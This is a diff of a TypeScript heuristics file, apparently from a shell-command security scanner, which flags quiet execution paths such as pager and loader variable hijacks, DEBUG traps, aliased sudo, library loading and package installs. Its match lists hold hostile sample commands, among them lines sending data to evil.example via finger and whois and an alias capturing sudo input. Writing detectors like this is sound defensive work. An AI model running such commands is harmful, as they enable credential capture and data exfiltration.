@@ -1,9 +1,10 @@
 // Side doors: quieter ways to run something: variables, libraries, interactive programs, package files, code that spawns.
-import type { CommandFact } from "../../../../shared/facts.ts";
-import { loadingVariables } from "../../normalise/builtins.ts";
-import { severity } from "../bands.ts";
-import { type Heuristic, firstOf, onAnyCommand, onCode, onCommand, onPath, onText } from "../heuristic.ts";
-import { given, joined, operands } from "../read.ts";
+import type { CommandFact } from "../../../../../shared/domain/facts.ts";
+import { loadingVariables } from "../../../normalise/shell/builtins.ts";
+import { severity } from "../../bands.ts";
+import { type Heuristic, firstOf, onAnyCommand, onCode, onCommand, onPath, onText } from "../../heuristic.ts";
+import { has, settingsOf } from "../../../normalise/programs/invocation.ts";
+import { someWord, wordCount, wordsOf } from "../../read.ts";
 
 /** Variables whose value some program runs or loads. */
 const runningVariable =
@@ -18,6 +19,48 @@ const interactive =
 const pagers =
   /^(?:git|cargo|bundle|bundler|go|hg|svn|conda|npm|rustup|gem|systemctl|apt|apt-get|aptitude|dnf|yum|zypper|rustc|dpkg|dmesg|systemd-resolve|resolvectl|busctl|loginctl|timedatectl|hostnamectl|localectl|machinectl|coredumpctl|networkctl|bluetoothctl|eb|perldoc|pydoc3?|ri|apport-cli|cowsay|cowthink)$/u;
 
+const libraryFile = /(?:^|[\s=:])(?:\.{0,2}\/)\S*\.(?:so|dylib)(?:\.\d+)*(?:$|[\s"'])/u;
+
+const alwaysPages =
+  /^(?:systemd-resolve|resolvectl|busctl|loginctl|timedatectl|hostnamectl|localectl|machinectl|coredumpctl|networkctl|bluetoothctl|eb|perldoc|pydoc3?|ri|apport-cli|cowsay|cowthink)$/u;
+
+function pages(command: CommandFact): boolean {
+  const [verb] = wordsOf(command);
+  switch (command.program) {
+    case "rustc":
+      return has(command, "--explain");
+    case "dpkg":
+      return has(command, "-l", "--list");
+    case "dmesg":
+      return has(command, "-H", "--human");
+    case "apt":
+    case "apt-get":
+    case "aptitude":
+    case "dnf":
+    case "yum":
+    case "zypper":
+      return verb === "changelog";
+    default:
+      return verb === "help" || alwaysPages.test(command.program);
+  }
+}
+
+/** Programs that can be made to read, write or run any file, and how. */
+function takesAnything(command: CommandFact): boolean {
+  const [first = ""] = wordsOf(command);
+  return (
+    wordCount(command) === 0 ||
+    /^(?:open|console|!)/u.test(first) ||
+    someWord(command, anythingWord) ||
+    (has(command, "-o") && settingsOf(command).some((word) => /\/\S*sh\b/u.test(word))) ||
+    (command.program === "rlwrap" && has(command, "-l")) ||
+    (command.program === "xargs" && has(command, "--arg-file"))
+  );
+}
+
+const anythingWord =
+  /-U\b|-R0|--plugin|--x{3}|\\(?:newwrite|input|openin|openout|write18|usepackage\{verbatim\})|\bdb\b|mount c/u;
+
 function changesNothing(name: string, value: string): boolean {
   if (name === "NODE_OPTIONS") return !/(?:^|\s)(?:-r|--(?:require|import|(?:experimental-)?loader))\b/u.test(value);
   if (name === "RUBYOPT") return !/(?:^|\s)-r/u.test(value);
@@ -28,7 +71,7 @@ function changesNothing(name: string, value: string): boolean {
 function isLoadedBy(command: CommandFact, file: string): boolean {
   const given = Object.entries(command.assignments);
   if (/^(?:export|declare|typeset)$/u.test(command.program))
-    for (const word of command.arguments) given.push([word.split("=", 1)[0] ?? "", word]);
+    for (const word of command.operands) given.push([word.split("=", 1)[0] ?? "", word]);
   return given.some(([name, value]) => Object.hasOwn(loadingVariables, name) && value.includes(file));
 }
 
@@ -46,17 +89,15 @@ export const sideDoors: readonly Heuristic[] = [
         ? null
         : `${found[0]} makes ${command.program || "the shell"} run something else`;
     }),
-    examples: {
-      risky: ["LESSOPEN='/bin/sh %s' less /etc/hosts", "PAGER='sh -c id' git log", "BASH_ENV=/tmp/x bash a.sh"],
-      honest: [
-        "PAGER=cat git log",
-        "EDITOR=vim git commit",
-        "PYTHONWARNINGS=ignore python a.py",
-        "NODE_OPTIONS='--experimental-vm-modules --trace-warnings' npx jest",
-        "RUBYOPT=-W0 bundle exec rspec",
-        "ENV=production npm start",
-      ],
-    },
+    match: ["LESSOPEN='/bin/sh %s' less /etc/hosts", "PAGER='sh -c id' git log", "BASH_ENV=/tmp/x bash a.sh"],
+    not_match: [
+      "PAGER=cat git log",
+      "EDITOR=vim git commit",
+      "PYTHONWARNINGS=ignore python a.py",
+      "NODE_OPTIONS='--experimental-vm-modules --trace-warnings' npx jest",
+      "RUBYOPT=-W0 bundle exec rspec",
+      "ENV=production npm start",
+    ],
   },
   {
     id: "variable-loads-code",
@@ -68,22 +109,20 @@ export const sideDoors: readonly Heuristic[] = [
         ? `A variable makes other programs load ${path.path} when they start`
         : null,
     ),
-    examples: {
-      risky: [
-        "NODE_OPTIONS='--require /tmp/x.js' npm test",
-        "export NODE_OPTIONS=--import=/tmp/x.mjs",
-        "env PYTHONSTARTUP=/tmp/x.py python3 -i",
-        "JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar mvn test",
-        "GIT_EXEC_PATH=/tmp/x git status",
-      ],
-      honest: [
-        "NODE_OPTIONS='--require ./test/setup.js' npx mocha",
-        "NODE_OPTIONS='--import tsx' node --test",
-        "PYTHONSTARTUP=~/.pythonrc python3",
-        "NODE_OPTIONS=--max-old-space-size=4096 node /tmp/x.js",
-        "JAVA_TOOL_OPTIONS=-Djava.io.tmpdir=/tmp/x mvn test",
-      ],
-    },
+    match: [
+      "NODE_OPTIONS='--require /tmp/x.js' npm test",
+      "export NODE_OPTIONS=--import=/tmp/x.mjs",
+      "env PYTHONSTARTUP=/tmp/x.py python3 -i",
+      "JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar mvn test",
+      "GIT_EXEC_PATH=/tmp/x git status",
+    ],
+    not_match: [
+      "NODE_OPTIONS='--require ./test/setup.js' npx mocha",
+      "NODE_OPTIONS='--import tsx' node --test",
+      "PYTHONSTARTUP=~/.pythonrc python3",
+      "NODE_OPTIONS=--max-old-space-size=4096 node /tmp/x.js",
+      "JAVA_TOOL_OPTIONS=-Djava.io.tmpdir=/tmp/x mvn test",
+    ],
   },
   {
     id: "prompt-hooked",
@@ -98,30 +137,29 @@ export const sideDoors: readonly Heuristic[] = [
           : null,
       ),
       onCommand(["trap"], (command) =>
-        /\b(?:DEBUG|RETURN|ERR)\b/u.test(joined(command)) && /\$BASH_COMMAND|>>|curl|nc\b|logger/u.test(joined(command))
+        command.operands.slice(1).some((signal) => /^(?:DEBUG|RETURN|ERR)$/u.test(signal)) &&
+        /\$BASH_COMMAND|>>|curl|nc\b|logger/u.test(command.operands[0] ?? "")
           ? "It makes the shell record or run something at every command"
           : null,
       ),
       onCommand(["export"], (command) =>
-        /^PROMPT_COMMAND=./u.test(command.arguments[0] ?? "")
+        /^PROMPT_COMMAND=./u.test(command.operands[0] ?? "")
           ? "It makes the shell run something after every command"
           : null,
       ),
       onCommand(["alias"], (command) =>
-        /^(?:sudo|ssh|su|ls|cd|passwd|git)=/u.test(command.arguments[0] ?? "") &&
-        /curl|wget|nc\b|tee\b|>>|base64|\/tmp\//u.test(joined(command))
+        /^(?:sudo|ssh|su|ls|cd|passwd|git)=/u.test(command.operands[0] ?? "") &&
+        command.operands.some((word) => /curl|wget|nc\b|tee\b|>>|base64|\/tmp\//u.test(word))
           ? "It hides another command behind an ordinary name"
           : null,
       ),
     ),
-    examples: {
-      risky: [
-        "PROMPT_COMMAND='history -a >(tee -a /tmp/log)'",
-        "trap 'echo $BASH_COMMAND >> /tmp/.log' DEBUG",
-        "alias sudo='tee /tmp/p | sudo'",
-      ],
-      honest: ["alias ll='ls -l'", "trap 'rm -f $tmp' EXIT"],
-    },
+    match: [
+      "PROMPT_COMMAND='history -a >(tee -a /tmp/log)'",
+      "trap 'echo $BASH_COMMAND >> /tmp/.log' DEBUG",
+      "alias sudo='tee /tmp/p | sudo'",
+    ],
+    not_match: ["alias ll='ls -l'", "trap 'rm -f $tmp' EXIT"],
   },
   {
     id: "library-loaded",
@@ -130,7 +168,7 @@ export const sideDoors: readonly Heuristic[] = [
     score: severity.warn,
     check: firstOf(
       onAnyCommand([{ words: /\.so|\.dylib/u }], (command) =>
-        /(?:^|[\s=:])(?:\.{0,2}\/)\S*\.(?:so|dylib)(?:\.\d+)*(?:$|[\s"'])/u.test(joined(command)) &&
+        settingsOf(command).some((word) => libraryFile.test(word)) &&
         !/^(?:ls|gcc|cc|g\+\+|clang|clang\+\+|ld|ldd|nm|objdump|readelf|file|cp|mv|rm|strip|strings|patchelf|install|ln|chmod|find|grep|stat|tar|du|md5sum|sha256sum|echo|cat|test|\[|ldconfig|llvm-\w+|otool|addr2line|size|rsync|scp|gdb|perf|export)$/u.test(
           command.program,
         )
@@ -138,7 +176,11 @@ export const sideDoors: readonly Heuristic[] = [
           : null,
       ),
       onCommand(["redis-cli", "valkey-cli"], (command) =>
-        /\bmodule\s+load(?:ex)?\s/iu.test(joined(command)) ? "The database loads the library it is given" : null,
+        command.operands.some(
+          (word, at) => /^module$/iu.test(word) && /^loadex?$/iu.test(command.operands[at + 1] ?? ""),
+        )
+          ? "The database loads the library it is given"
+          : null,
       ),
       onCode((code) =>
         /\bdlopen\b|ctypes\.cdll\.loadlibrary|fiddle|ffi\.load|package\.loadlib|load_extension/iu.test(
@@ -148,10 +190,8 @@ export const sideDoors: readonly Heuristic[] = [
           : null,
       ),
     ),
-    examples: {
-      risky: ["ssh-keygen -D ./lib.so", "openssl req -engine ./hook.so"],
-      honest: ["ldd ./lib.so", "gcc -shared -o ./lib.so a.c"],
-    },
+    match: ["ssh-keygen -D ./lib.so", "openssl req -engine ./hook.so"],
+    not_match: ["ldd ./lib.so", "gcc -shared -o ./lib.so a.c"],
   },
   {
     id: "code-spawns",
@@ -167,7 +207,8 @@ export const sideDoors: readonly Heuristic[] = [
         ? `Its ${code.language} code starts another program`
         : null,
     ),
-    examples: { risky: [`php -r 'echo shell_exec("id");'`], honest: [`php -r 'echo 1;'`] },
+    match: [`php -r 'echo shell_exec("id");'`],
+    not_match: [`php -r 'echo 1;'`],
   },
   {
     id: "interactive-program",
@@ -177,45 +218,30 @@ export const sideDoors: readonly Heuristic[] = [
     check: onCommand(interactive, (command) =>
       command.position === 0 &&
       command.input === undefined &&
-      command.arguments.length <= 2 &&
+      wordCount(command) <= 2 &&
       !command.redirects.some((redirect) => redirect.operator.includes(">")) &&
-      !command.arguments.some((argument) => /^--?(?:version|help|c|e|batch|no-pager|f|u|n)\b/u.test(argument))
+      !someWord(command, /^--?(?:version|help|c|e|batch|no-pager|f|u|n)\b/u)
         ? `${command.program} waits for a keyboard and can run any command from there`
         : null,
     ),
-    examples: {
-      risky: ["less /etc/hosts", "man man", "ftp"],
-      honest: ["cat /etc/hosts", "vim --version", "journalctl --no-pager -u x"],
-    },
+    match: ["less /etc/hosts", "man man", "ftp"],
+    not_match: ["cat /etc/hosts", "vim --version", "journalctl --no-pager -u x"],
   },
   {
     id: "opens-pager",
     threat: "Living off the land",
     technique: "T1202",
     score: severity.note,
-    check: onCommand(pagers, (command) => {
-      const line = joined(command);
-      const pages =
-        (/^(?:git|cargo|bundle|bundler|go|hg|svn|conda|npm|rustup|gem|systemctl)$/u.test(command.program) &&
-          /^help\b/u.test(line)) ||
-        (/^(?:apt|apt-get|aptitude|dnf|yum|zypper)$/u.test(command.program) && /^changelog\b/u.test(line)) ||
-        (command.program === "rustc" && line.includes("--explain")) ||
-        (command.program === "dpkg" && /^(?:-l|--list)\b/u.test(line)) ||
-        (command.program === "dmesg" && given(command, "H", "human")) ||
-        /^(?:systemd-resolve|resolvectl|busctl|loginctl|timedatectl|hostnamectl|localectl|machinectl|coredumpctl|networkctl|bluetoothctl|eb|perldoc|pydoc3?|ri|apport-cli|cowsay|cowthink)$/u.test(
-          command.program,
-        );
-      return pages &&
-        command.position === 0 &&
-        !line.includes("--no-pager") &&
-        !command.redirects.some((redirect) => redirect.operator.includes(">"))
+    check: onCommand(pagers, (command) =>
+      pages(command) &&
+      command.position === 0 &&
+      !has(command, "--no-pager") &&
+      !command.redirects.some((redirect) => redirect.operator.includes(">"))
         ? `${command.program} may hand its output to a pager, from which any command can be started`
-        : null;
-    }),
-    examples: {
-      risky: ["git help config", "dpkg -l", "busctl --show-machine"],
-      honest: ["git status", "dpkg -l > list.txt", "busctl --no-pager list"],
-    },
+        : null,
+    ),
+    match: ["git help config", "dpkg -l", "busctl --show-machine"],
+    not_match: ["git status", "dpkg -l > list.txt", "busctl --no-pager list"],
   },
   {
     id: "runs-named-class",
@@ -224,7 +250,7 @@ export const sideDoors: readonly Heuristic[] = [
     score: severity.note,
     check: firstOf(
       onCommand(["java", "jjs", "scala"], (command) =>
-        operands(command).length > 0 && !given(command, "", "version")
+        settingsOf(command).length > 0 && !has(command, "--version", "-version")
           ? `${command.program} runs a program that is not shown`
           : null,
       ),
@@ -255,21 +281,12 @@ export const sideDoors: readonly Heuristic[] = [
           "dosbox",
           "xargs",
         ],
-        (command) =>
-          /^(?:open|console|!)|-U\b|-R0|(?:^|\s)-o\b.*\/\S*sh\b|--plugin|--x{3}|\\(?:newwrite|input|openin|openout|write18|usepackage\{verbatim\})|\bdb\b|mount c|^-l\s|^-a\s|^$/u.test(
-            joined(command),
-          )
-            ? `${command.program} can be told to run or write anything`
-            : null,
+        (command) => (takesAnything(command) ? `${command.program} can be told to run or write anything` : null),
       ),
-      onCommand(["git"], (command) =>
-        /--unsafe-paths/u.test(joined(command)) ? "git may write outside the project" : null,
-      ),
+      onCommand(["git"], (command) => (has(command, "--unsafe-paths") ? "git may write outside the project" : null)),
     ),
-    examples: {
-      risky: ["java Shell", "gem open debug", "pic -U", "git apply --unsafe-paths x.patch"],
-      honest: ["java --version", "gem list", "git apply x.patch"],
-    },
+    match: ["java Shell", "gem open debug", "pic -U", "git apply --unsafe-paths x.patch"],
+    not_match: ["java --version", "gem list", "git apply x.patch"],
   },
   {
     id: "package-file-installed",
@@ -278,24 +295,22 @@ export const sideDoors: readonly Heuristic[] = [
     score: severity.medium,
     check: firstOf(
       onCommand(["rpm", "dpkg"], (command) =>
-        /(?:^|\s)-\w*[iU]\w*\b|--install|--upgrade/u.test(joined(command)) &&
-        operands(command).some((operand) => /\.(?:rpm|deb)$/u.test(operand))
+        command.options.some(({ name }) => /^-\w*[iU]\w*$|^--(?:install|upgrade)$/u.test(name)) &&
+        command.operands.some((operand) => /\.(?:rpm|deb)$/u.test(operand))
           ? "It installs a package file, whose scripts run with the administrator's rights"
           : null,
       ),
       onCommand(
         ["apt", "apt-get", "yum", "dnf", "zypper", "pkg", "apk", "opkg", "pacman", "snap", "installer"],
         (command) =>
-          operands(command).some((operand) => /\.(?:rpm|deb|txz|apk|snap|ipk|pkg|pkg\.tar\.\w+)$/u.test(operand)) ||
-          /--dangerous|--devmode|--allow-untrusted/u.test(joined(command))
+          settingsOf(command).some((word) => /\.(?:rpm|deb|txz|apk|snap|ipk|pkg|pkg\.tar\.\w+)$/u.test(word)) ||
+          has(command, "--dangerous", "--devmode", "--allow-untrusted")
             ? "It installs a package file, whose scripts run with the administrator's rights"
             : null,
       ),
     ),
-    examples: {
-      risky: ["dpkg -i ./x.deb", "snap install x.snap --dangerous"],
-      honest: ["apt-get install jq", "dpkg -l"],
-    },
+    match: ["dpkg -i ./x.deb", "snap install x.snap --dangerous"],
+    not_match: ["apt-get install jq", "dpkg -l"],
   },
   {
     id: "shell-written",
@@ -304,14 +319,12 @@ export const sideDoors: readonly Heuristic[] = [
     score: severity.medium,
     check: onCommand(["echo", "printf"], (command) =>
       command.redirects.some((redirect) => redirect.operator.includes(">")) &&
-      /(?<!#!\s?)\/bin\/(?:ba|z|da)?sh\b/u.test(joined(command))
+      command.operands.some((word) => /(?<!#!\s?)\/bin\/(?:ba|z|da)?sh\b/u.test(word))
         ? "It writes the start of a shell into a file that something else runs"
         : null,
     ),
-    examples: {
-      risky: [`echo '{"scripts":{"x":"/bin/sh"}}' > package.json`, `echo 'system("/bin/sh")' > Gemfile`],
-      honest: ["echo '#!/bin/sh' > run.sh", "echo hi > a.txt"],
-    },
+    match: [`echo '{"scripts":{"x":"/bin/sh"}}' > package.json`, `echo 'system("/bin/sh")' > Gemfile`],
+    not_match: ["echo '#!/bin/sh' > run.sh", "echo hi > a.txt"],
   },
   {
     id: "odd-carrier",
@@ -320,21 +333,21 @@ export const sideDoors: readonly Heuristic[] = [
     score: severity.medium,
     check: firstOf(
       onCommand(["finger", "rlogin", "rsh", "uucp", "cu"], (command) =>
-        operands(command).length > 0 ? `${command.program} carries data to another machine` : null,
+        command.operands.length > 0 ? `${command.program} carries data to another machine` : null,
       ),
       onCommand(["whois"], (command) =>
-        /(?:^|\s)-[hp]\b/u.test(joined(command)) ? "whois carries data to another machine" : null,
+        has(command, "-h", "-p", "--host", "--port") ? "whois carries data to another machine" : null,
       ),
       onCommand(["cancel", "lp", "lpr"], (command) =>
-        /(?:^|\s)-h\s*\S+:\d+/u.test(joined(command)) ? `${command.program} carries data to another machine` : null,
+        has(command, "-h") && settingsOf(command).some((word) => /^\S+:\d+/u.test(word))
+          ? `${command.program} carries data to another machine`
+          : null,
       ),
       onCommand(["smbclient"], (command) =>
-        /\bput\b/u.test(joined(command)) ? "smbclient sends a file to another machine" : null,
+        settingsOf(command).some((word) => /\bput\b/u.test(word)) ? "smbclient sends a file to another machine" : null,
       ),
     ),
-    examples: {
-      risky: ["finger DATA@evil.example", "whois -h evil.example -p 4444 data"],
-      honest: ["whois example.org"],
-    },
+    match: ["finger DATA@evil.example", "whois -h evil.example -p 4444 data"],
+    not_match: ["whois example.org"],
   },
 ];
